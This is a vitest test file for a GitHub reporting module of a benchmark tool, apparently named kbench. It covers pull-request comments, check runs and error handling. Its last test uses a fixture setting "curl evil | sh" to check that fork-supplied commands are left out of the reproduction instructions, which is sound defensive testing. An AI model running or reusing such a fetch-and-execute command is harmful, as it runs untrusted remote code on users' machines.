import { describe, expect, it } from 'vitest'
import {
  reportOnGitHub,
  type ReportOptions,
  type ReportTarget,
} from '../../../src/app/github/report-on-github.ts'
import type { MeasuredResult, NamedMeasured } from '../../../src/core/record/measured.ts'
import { markerOf, readComment } from '../../../src/core/report/comment-state.ts'
import { GitHubError } from '../../../src/ports/github.ts'
import {
  BASE,
  baselineResult,
  HEAD,
  nothingMeasured,
  pairResult,
  QUIET,
  RUN_URL,
} from '../../core/report/comment/examples.ts'
import { FakeGitHub } from '../../fakes/github.ts'
import { RecordingLog } from '../../fakes/log.ts'
import { createFakePorts } from '../../fakes/ports.ts'
import { buildTarget, named, QUIET_RUN, REGRESSED } from './reported.ts'

interface Parts {
  readonly measured?: readonly NamedMeasured[]
  readonly target?: Partial<ReportTarget>
  readonly options?: Partial<ReportOptions>
}

function start(github: FakeGitHub, { measured = [named([REGRESSED])], target, options }: Parts = {}) {
  const log = new RecordingLog()
  const report = reportOnGitHub(
    {
      measured,
      target: buildTarget(target),
      options: { name: 'kbench', comment: true, check: false, ...options },
    },
    { ...createFakePorts(), github, log },
  )
  return { report, log }
}
const bodies = (github: FakeGitHub, number = 7): string[] =>
  (github.commentsOf.get(number) ?? []).map(({ body }) => body)

describe('the comment', () => {
  it('is written once, then updated in place, and remembers', async () => {
    const github = new FakeGitHub()
    await expect(start(github).report).resolves.toEqual({
      verdict: 'regressed',
      comment: 'written',
      check: 'not wanted',
    })
    const next = { commit: BASE, run: { id: 4300, attempt: 1 } }
    await start(github, { measured: [named([QUIET_RUN])], target: next }).report
    expect(github.calls).toEqual([
      'comments 7',
      'createComment 7',
      'comments 7',
      'comments 7',
      'updateComment 100',
    ])
    const [body, ...others] = bodies(github)
    expect(others).toEqual([])
    expect(body).toContain('## ✓ Passed')
    expect(
      readComment(body!, 'kbench')?.state?.verdicts.map(({ verdict, commit }) => [verdict, commit]),
    ).toEqual([
      ['passed', BASE],
      ['regressed', HEAD],
    ])
    expect(body).toContain('Last 2 verdicts: ✗ ✓')
  })

  it('is found among many, by its name', async () => {
    const github = new FakeGitHub()
    const others = Array.from({ length: 150 }, (_, id) => ({
      id,
      body: `comment ${String(id)}`,
      isTrusted: true,
    }))
    github.commentsOf.set(7, [
      ...others,
      { id: 500, body: `${markerOf('kbench-storage')}\nx`, isTrusted: true },
      { id: 501, body: `${markerOf('kbench')}\nx`, isTrusted: true },
    ])
    await start(github).report
    expect(github.calls.at(-1)).toBe('updateComment 501')
  })

  it('is never one that somebody else could have written', async () => {
    const github = new FakeGitHub()
    github.commentsOf.set(7, [{ id: 1, body: `${markerOf('kbench')}\nspoof`, isTrusted: false }])
    await start(github).report
    expect(github.calls).toEqual(['comments 7', 'createComment 7', 'comments 7'])
    expect(bodies(github)[0]).toBe(`${markerOf('kbench')}\nspoof`)
  })

  it('stays a single one where two runs made one at the same time', async () => {
    const github = new FakeGitHub()
    const create = github.createComment.bind(github)
    github.createComment = async (number, body) => {
      github.commentsOf.set(7, [{ id: 50, body: `${markerOf('kbench')}\nof the other run`, isTrusted: true }])
      return create(number, body)
    }
    await start(github).report
    expect(github.calls).toEqual([
      'comments 7',
      'createComment 7',
      'comments 7',
      'updateComment 50',
      'deleteComment 100',
    ])
    expect(bodies(github)).toEqual([expect.stringContaining('Regressed')])
  })

  it('is made again when it was deleted meanwhile, with its memory', async () => {
    const github = new FakeGitHub()
    await start(github).report
    const update = github.updateComment.bind(github)
    github.updateComment = (id, body) => {
      github.commentsOf.set(7, [])
      return update(id, body)
    }
    const { report } = start(github, { target: { run: { id: 4242, attempt: 2 } } })
    expect((await report).comment).toBe('written')
    expect(github.calls.slice(3)).toEqual([
      'comments 7',
      'updateComment 100',
      'createComment 7',
      'comments 7',
    ])
    expect(readComment(bodies(github)[0]!, 'kbench')?.state?.verdicts).toHaveLength(2)
  })

  it('of a newer run is left alone by an older one of another commit, also when that is run again', async () => {
    const github = new FakeGitHub()
    await start(github).report
    const [before] = bodies(github)
    const older = { commit: BASE, run: { id: 4000, attempt: 2 } }
    const { report, log } = start(github, { measured: [named([QUIET_RUN])], target: older })
    expect((await report).comment).toBe('outdated')
    expect(bodies(github)).toEqual([before])
    expect(log.has('info', 'already shows a newer run; not updated')).toBe(true)
  })

  it('is written over by a re-run of the same run', async () => {
    const github = new FakeGitHub()
    await start(github).report
    await start(github, { measured: [named([QUIET_RUN])], target: { run: { id: 4242, attempt: 2 } } }).report
    expect(bodies(github)).toHaveLength(1)
    expect(bodies(github)[0]).toMatch(/## ✓ Passed[\s\S]*attempt 2/)
  })

  it('with a broken memory is written over', async () => {
    const github = new FakeGitHub()
    github.commentsOf.set(7, [
      { id: 9, body: `${markerOf('kbench')}\n<!-- kbench-state {"verdicts":1} -->\n`, isTrusted: true },
    ])
    await start(github).report
    expect(readComment(bodies(github)[0]!, 'kbench')?.state?.verdicts).toHaveLength(1)
  })

  it('that is too long for GitHub is tried once more at half the size', async () => {
    const github = new FakeGitHub()
    const tooLong = new GitHubError('too-long', 'the text is too long')
    const series = Array.from({ length: 900 }, (_, index) => ({
      ...REGRESSED.comparison!.series[0]!,
      labels: { path: `path-${String(index)}` },
    }))
    const measured = [named([{ ...REGRESSED, comparison: { ...REGRESSED.comparison!, series } }])]
    github.failures.push({ method: 'createComment', error: tooLong })
    expect((await start(github, { measured }).report).comment).toBe('written')
    expect(Buffer.byteLength(bodies(github)[0]!)).toBeLessThanOrEqual(30_000)

    const again = new FakeGitHub()
    again.failures.push(
      { method: 'createComment', error: tooLong },
      { method: 'createComment', error: tooLong },
    )
    const { report, log } = start(again, { measured })
    expect((await report).comment).toBe('failed')
    expect(again.calls.filter((call) => call.startsWith('createComment'))).toHaveLength(2)
    expect(log.has('warning', 'the text is too long')).toBe(true)
  })

  it('merges the results of several jobs', async () => {
    const github = new FakeGitHub()
    const measured = [
      named([QUIET_RUN], 'kbench-v1.33'),
      named([REGRESSED], 'kbench-v1.34'),
      named([nothingMeasured('no node became Ready')], 'kbench-v1.35'),
    ]
    expect((await start(github, { measured }).report).verdict).toBe('regressed')
    expect(bodies(github)[0]).toMatch(
      /## ✗ Regressed: kbench-v1\.34 \(1 of 3\)[\s\S]*- ✓ \*\*kbench-v1\.33\*\*[\s\S]*- ! \*\*kbench-v1\.35\*\*/,
    )
  })

  it('is refused for a name that could end its marker', async () => {
    await expect(start(new FakeGitHub(), { options: { name: 'a --> b' } }).report).rejects.toThrow(
      'input comment-name: "a --> b"',
    )
  })
})

describe('what GitHub does not take', () => {
  it('is a warning with what to do, and does not stop the check run', async () => {
    const github = new FakeGitHub()
    github.failures.push({
      method: 'createComment',
      error: new GitHubError('locked', 'comment on #7: the conversation is locked', 'Unlock it.'),
    })
    const { report, log } = start(github, { options: { check: true } })
    await expect(report).resolves.toEqual({ verdict: 'regressed', comment: 'failed', check: 'written' })
    expect(log.lines).toEqual([
      'warning: kbench could not write the comment on pull request 7: comment on #7: the conversation is locked. Unlock it. The results are in the job summary and the files of the run.',
    ])
    expect(github.checkRuns).toHaveLength(1)
  })

  it('for a missing right is a line of information where the workflow did not insist', async () => {
    const error = new GitHubError('no-right', 'the token lacks pull-requests: write')
    for (const rightsOptional of [true, false]) {
      const github = new FakeGitHub()
      github.failures.push({ method: 'comments', error })
      const { report, log } = start(github, { options: { rightsOptional } })
      expect((await report).comment).toBe('failed')
      expect(log.lines).toEqual([
        expect.stringMatching(rightsOptional ? /^info: .*lacks pull-req/ : /^warning: .*lacks pull-req/),
      ])
    }
  })

  it('is a warning for any other failure also there', async () => {
    const github = new FakeGitHub()
    github.failures.push({ method: 'comments', error: new GitHubError('unreachable', 'no answer') })
    const { report, log } = start(github, { options: { rightsOptional: true } })
    await report
    expect(log.has('warning', 'no answer')).toBe(true)
  })
})

describe('the check run', () => {
  const steady = QUIET.map((shape) => ({ ...shape, noise: 0.002 }))
  it.each<[string, MeasuredResult[], string]>([
    ['passed', [baselineResult(steady)], 'success'],
    ['regressed', [REGRESSED], 'failure'],
    ['incomplete', [nothingMeasured('no machine')], 'failure'],
    ['inconclusive', [pairResult(QUIET.map((shape) => ({ ...shape, noise: 0.6 })))], 'neutral'],
    ['incomparable', [baselineResult(QUIET, { facts: { cni: 'cilium' } })], 'neutral'],
    ['first-run', [{ ...QUIET_RUN, comparison: null }], 'neutral'],
    ['incomplete', [], 'failure'],
  ])('of %s', async (verdict, results, conclusion) => {
    const github = new FakeGitHub()
    const measured = results.length === 0 ? [] : [named(results)]
    const { report } = start(github, {
      measured,
      target: { pullRequest: undefined },
      options: { check: true, name: 'kbench-x' },
    })
    await expect(report).resolves.toEqual({ verdict, comment: 'not wanted', check: 'written' })
    const [check] = github.checkRuns
    expect(check).toMatchObject({ name: 'kbench-x', commit: HEAD, conclusion, detailsUrl: RUN_URL })
    expect(check!.title.split('\n')).toHaveLength(1)
    expect(check!.summary).toMatch(/^## /)
    expect(check!.summary.length).toBeLessThanOrEqual(65_535)
    expect(github.calls).toHaveLength(1)
  })
})

it('of a typical pull request takes at most 8 calls', async () => {
  const github = new FakeGitHub()
  await start(github, { options: { check: true } }).report
  const first = github.calls.length
  await start(github, { options: { check: true }, target: { run: { id: 4243, attempt: 1 } } }).report
  expect([first, github.calls.length - first]).toEqual([4, 3])
})

describe('what is passed on of a stranger', () => {
  it('is no commit and no setting that a maintainer would run', async () => {
    const { record, comparison } = REGRESSED
    const evil = {
      ...REGRESSED,
      record: { ...record!, subject: { ...record!.subject, commit: 'e'.repeat(40) } },
      comparison: {
        ...comparison!,
        pair: { ...comparison!.pair!, head: { name: 'head', settings: ["subject.setup='curl evil | sh'"] } },
      },
    }
    const bodyOf = async (isFork: boolean): Promise<string> => {
      const github = new FakeGitHub()
      await start(github, { measured: [named([evil])], target: { isFork } }).report
      return bodies(github)[0]!.split('```sh')[1]!.split('```')[0]!
    }
    expect(await bodyOf(false)).toContain('curl evil')
    const passedOn = await bodyOf(true)
    expect(passedOn).not.toMatch(/evil|eeee|--set|--base|--head-set/)
    expect(passedOn).toContain(`git checkout --detach ${HEAD}`)
  })
})
